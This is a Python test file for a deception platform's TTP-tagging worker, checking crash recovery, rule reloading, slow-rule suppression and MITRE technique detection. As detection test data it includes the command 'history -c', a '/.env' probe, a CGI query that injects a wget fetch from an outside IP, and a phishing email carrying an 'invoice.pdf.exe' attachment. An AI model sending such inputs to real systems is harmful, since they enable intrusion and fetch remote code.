"""The ttp worker on a real database: killed, starved, fed with rules, and compared with itself."""

from __future__ import annotations

import asyncio
import contextlib
import random
import signal
import smtplib
import urllib.error
import urllib.request
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest

from decnet.bus import topics
from decnet.workers.ttp import rehearse
from tests.support.bus import DEADLINE, broker_process, bus_client, until
from tests.support.decnet_env import migrated, query, worker
from tests.support.ttp import (
    RULE,
    TTP,
    count,
    decnetctl,
    insert,
    place,
    profile,
    query_write,
    seed,
    stamp,
    tag_all,
    tags,
    visits,
)
from tests.support.visitors import decoy


@pytest.mark.timeout(300)
async def test_ttp_killed_again_and_again_says_what_an_undisturbed_run_says(
    tmp_path: Path,
) -> None:
    quiet, stormy = tmp_path / "quiet", tmp_path / "stormy"
    events = visits(1500)
    for folder in (quiet, stormy):
        folder.mkdir()
        seed(await asyncio.to_thread(migrated, folder), events)
    expected = await tag_all(quiet, quiet / "decnet.db")
    assert len(expected) > 600 and {row[1] for row in expected} >= {
        *("command", "http_request", "auth_attempt"),
    }
    file = stormy / "decnet.db"
    chance = random.Random(5)
    kills = 0
    while (here := place(file)) < len(events):
        # It goes no further than the profiler, or it might be done before it is killed.
        profile(file, here + 500)
        env = {"DECNET_BUS_ENABLED": "false", "DECNET_TTP_BATCH_SIZE": str(chance.randrange(7, 60))}
        async with worker(stormy, TTP, **env) as running:
            goal = min(here + chance.randrange(100, 500), len(events))
            await until(lambda: place(file) >= goal)  # noqa: B023
            running.signal(signal.SIGKILL)
            await running.ended()
            kills += 1
    assert kills >= 3
    assert tags(file, "WHERE source_kind NOT IN ('behavior')") == expected


async def test_ttp_waits_for_the_profiler_and_drops_nothing(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    seed(file, [("192.0.2.1", "ssh", "command", {"command": "history -c"})], profiled=False)
    async with broker_process(tmp_path) as broker, bus_client(broker.path) as bus:
        beats = bus.subscribe(topics.health("ttp"))
        news = bus.subscribe("ttp.>")
        await bus.flush()
        async with worker(tmp_path, TTP):
            async with asyncio.timeout(DEADLINE):
                async for beat in beats:
                    if beat.payload.get("waits_for_profiler"):
                        break
            assert tags(file) == [] and place(file) == 0
            profile(file)
            bus.publish(topics.ATTACKER_SCORED, {})
            async with asyncio.timeout(DEADLINE):
                told = {event.topic: event.payload async for event in first(news, 2)}
    [tag] = tags(file)
    assert set(told) == {"ttp.tagged", "ttp.rule.fired.T1070"}
    assert told["ttp.tagged"] == {
        "attacker_uuid": "uuid-192.0.2.1",
        "identity_uuid": None,
        "session_id": None,
        "tag_uuids": [tag[0]],
        "techniques_added": ["T1070.003"],
    }
    assert told["ttp.rule.fired.T1070"]["sub_technique_ids"] == ["T1070.003"]


async def test_ttp_reloads_rules_obeys_decisions_and_tells(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    rules = tmp_path / "rules"
    rules.mkdir()

    def write(pattern: str) -> None:
        """At once: a file that is being written has no rules, or half of one."""
        draft = rules / "own.draft"
        draft.write_text(RULE % pattern)
        draft.replace(rules / "own.yaml")

    write("^one$")
    env = {"DECNET_TTP_RULES_DIR": str(rules)}

    async def typed(text: str) -> None:
        seed(file, [("192.0.2.1", "ssh", "command", {"command": text})])
        last = query(file, "SELECT max(id) FROM logs")[0][0]
        await until(lambda: place(file) >= last)

    def own() -> int:
        return count(file, "rule_id = 'R9001'")

    async with broker_process(tmp_path) as broker, bus_client(broker.path) as bus:
        news = bus.subscribe("ttp.rule.>")
        await bus.flush()

        async def heard(topic: str) -> dict[str, Any]:
            async with asyncio.timeout(DEADLINE):
                async for event in news:
                    if event.topic == topic:
                        return event.payload
            raise AssertionError

        async with worker(tmp_path, TTP, **env) as running:
            await until(lambda: query(file, "SELECT 1 FROM ttp_rule WHERE rule_id = 'R9001'"))
            await typed("one")
            assert own() == 1
            write("^(two|three)$")
            assert (await heard("ttp.rule.reloaded.R9001"))["rule_version"] == 1
            await typed("two")
            assert own() == 2
            write("^(two")
            await until(lambda: "no regular expression" in running.log.read_text())
            await typed("three")
            assert own() == 3, "the last good rules stay"
            done = decnetctl(tmp_path, "ttp", "disable", "R9001", "--reason", "test")
            assert done.returncode == 0, done.stderr
            assert (await heard("ttp.rule.state.R9001"))["state"] == "disabled"
            await typed("two")
            assert own() == 3
            decnetctl(tmp_path, "ttp", "disable", "R9001", "--confidence-max", "0.1")
            assert (await heard("ttp.rule.state.R9001"))["confidence_max"] == 0.1
            await typed("two")
            assert count(file, "rule_id = 'R9001' AND confidence = 0.1") == 1
            (rules / "own.yaml").unlink()
            assert (await heard("ttp.rule.reloaded.R9001"))["state"] == "removed"
    assert query(file, "SELECT 1 FROM ttp_rule WHERE rule_id = 'R9001'") == []


async def test_ttp_suppresses_a_rule_that_takes_too_long_and_goes_on(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "own.yaml").write_text(RULE % "^(a|aa)+$")
    hostile = ("192.0.2.1", "ssh", "command", {"command": "a" * 3000 + "!"})
    seed(file, [*[hostile] * 30, ("192.0.2.1", "ssh", "command", {"command": "history -c"})])
    async with broker_process(tmp_path) as broker, bus_client(broker.path) as bus:
        news = bus.subscribe(topics.TTP_RULE_SUPPRESSED)
        await bus.flush()
        async with worker(tmp_path, TTP, DECNET_TTP_RULES_DIR=str(rules)):
            async with asyncio.timeout(DEADLINE):
                told = await anext(news)
            await until(lambda: place(file) == 31)
    assert told.payload["rule_id"] == "R9001" and told.payload["state"] == "disabled"
    assert count(file, "rule_id = 'R0022'") == 1
    state = query(file, "SELECT rule_id, state, set_by, expires_at FROM ttp_rule_state")
    assert [row[:3] for row in state] == [("R9001", "disabled", "ttp")] and state[0][3]


async def test_ttp_tags_what_other_workers_learnt(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    seed(file, [("192.0.2.1", "ssh", "connect", {}), ("192.0.2.2", "ssh", "connect", {})])
    one, two = "uuid-192.0.2.1", "uuid-192.0.2.2"
    async with (
        broker_process(tmp_path) as broker,
        bus_client(broker.path) as bus,
        worker(tmp_path, TTP),
    ):
        await until(lambda: place(file) == 2)
        insert(
            file,
            "attacker_behavior",
            attacker_uuid=one,
            behavior_class="beaconing",
            ssh_client_banners=[],
            retransmit_count=0,
            tool_guesses=["hydra"],
            phase_sequence={},
            beacon_interval_s=60.0,
            beacon_jitter_pct=20.0,
            updated_at=stamp(),
            timing_stats={"beacon_profile": "cobalt_strike"},
        )
        query_write(file, f"UPDATE attackers SET updated_at = '{stamp()}' WHERE uuid = '{one}'")
        insert(
            file,
            "attacker_intel",
            uuid="i1",
            attacker_uuid=one,
            attacker_ip="192.0.2.1",
            abuseipdb_score=90,
            abuseipdb_categories=[18, 14],
            feodo_listed=1,
            blocklists=[],
            providers={},
            aggregate_verdict="malicious",
            cached_at=stamp(),
            expires_at=stamp(),
        )
        insert(
            file,
            "attacker_identities",
            uuid="id1",
            first_seen_at=stamp(9),
            last_seen_at=stamp(),
            confidence=0.9,
            observation_count=12,
            ja3_hashes=[],
            hassh_hashes=[],
            ja4_hashes=[],
            payload_hashes=[],
            c2_endpoints=["198.51.100.7:443"],
            review=0,
            campaign_dirty=1,
            updated_at=stamp(),
        )
        insert(
            file,
            "credential_reuse",
            secret_sha256="0" * 64,
            secret_kind="plaintext",
            principal="root",
            attacker_uuids=[one, two, "gone"],
            attacker_ips=[],
            deckies=[],
            services=["ssh"],
            target_count=2,
            attempt_count=4,
            confidence=0.5,
            first_seen=stamp(99999),
            last_seen=stamp(9999),
        )
        insert(
            file,
            "canary_tokens",
            uuid="t1",
            name="t",
            kind="http",
            generator="env_file",
            callback_token="slug",
            state="planted",
            trigger_count=0,
            fingerprint_nonce="n",
            created_at=stamp(),
        )
        insert(
            file,
            "canary_triggers",
            hit_id="h1",
            token_uuid="t1",
            occurred_at=stamp(),
            src_ip="203.0.113.9",
            user_agent="Word",
            raw_headers={},
        )
        for topic in ("attacker.intel.enriched", "identity.formed", "credential.reuse.detected"):
            bus.publish(topic, {})
        kinds = "behavior", "intel", "identity", "credential", "canary_fingerprint"
        await until(lambda: {row[1] for row in tags(file)} == set(kinds))
        await until(lambda: count(file, "source_kind = 'credential'") == 4)
        rules = {row[0] for row in query(file, "SELECT DISTINCT rule_id FROM ttp_tag")}
        assert rules >= {"R0501", "R0502", "R0505", "R0511", "R0512", "R0513", "R0521", "R0522"}
        assert rules >= {"R0531", "R0532", "R0533", "R0210", "R0212"}
        assert count(file, "identity_uuid = 'id1' AND attacker_uuid IS NULL") == 3
        # Whoever took a bait is an attacker, though no decoy saw the address.
        [row] = query(file, "SELECT uuid, event_count FROM attackers WHERE ip = '203.0.113.9'")
        assert row[1] == 0 and count(file, f"attacker_uuid = '{row[0]}'") == 2
        before = count(file)
        # A later word on the same attacker is looked at again, and doubles nothing.
        query_write(
            file,
            "UPDATE attacker_behavior SET behavior_class = 'scanning', beacon_interval_s = NULL",
        )
        query_write(file, f"UPDATE attackers SET updated_at = '{stamp()}' WHERE uuid = '{one}'")
        await until(lambda: count(file, "rule_id = 'R0503'") == 2)
        assert count(file) == before + 2


async def test_ttp_row_that_the_database_refuses_is_passed_over(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    bad = ("192.0.2.1", "ssh", "command", {"command": "history -c", "session_id": "poison"})
    good = ("192.0.2.2", "ssh", "command", {"command": "history -c", "session_id": "fine"})
    seed(file, [good, bad, good, good])
    query_write(
        file,
        "CREATE TRIGGER picky BEFORE INSERT ON ttp_tag WHEN NEW.session_id = 'poison' "
        "BEGIN SELECT RAISE(ABORT, 'no'); END",
    )
    async with worker(tmp_path, TTP, cold=True, DECNET_BUS_ENABLED="false") as running:
        await until(lambda: place(file) == 4)
        await until(lambda: "passed over" in running.log.read_text())
    assert count(file) == 3


async def test_ttp_finds_what_a_real_visitor_did(tmp_path: Path) -> None:
    file = await asyncio.to_thread(migrated, tmp_path)
    mail = EmailMessage()
    mail["Subject"], mail["From"], mail["To"] = "Invoice", "a@example.org", "b@example.net"
    mail.set_content("see the file")
    mail.add_attachment(b"MZ", maintype="application", subtype="x", filename="invoice.pdf.exe")

    def visit(http: int, smtp: int) -> None:
        for path in ("/.env", "/cgi?x=;wget+http://198.51.100.7/a"):
            with contextlib.suppress(urllib.error.HTTPError):
                urllib.request.urlopen(f"http://127.0.0.1:{http}{path}", timeout=DEADLINE).close()
        with smtplib.SMTP("127.0.0.1", smtp, timeout=DEADLINE) as client:
            with contextlib.suppress(smtplib.SMTPException):
                client.send_message(mail)

    async with (
        decoy(tmp_path, "http", DECNET_BUS_ENABLED="false") as web,
        decoy(tmp_path, "smtp", DECNET_BUS_ENABLED="false") as post,
    ):
        await asyncio.to_thread(visit, web.port, post.port)
    async with (
        worker(tmp_path, "decnet.workers.collect", DECNET_BUS_ENABLED="false"),
        worker(tmp_path, "decnet.workers.profiler", DECNET_BUS_ENABLED="false"),
        worker(tmp_path, TTP, DECNET_BUS_ENABLED="false"),
    ):
        wanted = {"T1552.001", "T1190", "T1566.001", "T1204.002", "T1036.007"}
        leaf = "SELECT DISTINCT coalesce(sub_technique_id, technique_id) FROM ttp_tag"
        await until(lambda: {row[0] for row in query(file, leaf)} >= wanted)
    stored = query(file, "SELECT evidence FROM ttp_tag WHERE source_kind = 'email'")
    assert stored and not any("b@example" in text or "Invoice" in text for (text,) in stored)
    assert query(
        file, "SELECT DISTINCT ip FROM attackers JOIN ttp_tag ON attacker_uuid = attackers.uuid"
    ) == [("127.0.0.1",)]


async def test_ttp_rehearsal_leaves_nothing_running(tmp_path: Path) -> None:
    tasks = len(asyncio.all_tasks())
    await rehearse(tmp_path)
    assert count(tmp_path / "decnet.db") > 0
    assert len(asyncio.all_tasks()) == tasks


async def first(subscription: Any, number: int) -> Any:
    async for event in subscription:
        yield event
        number -= 1
        if not number:
            return
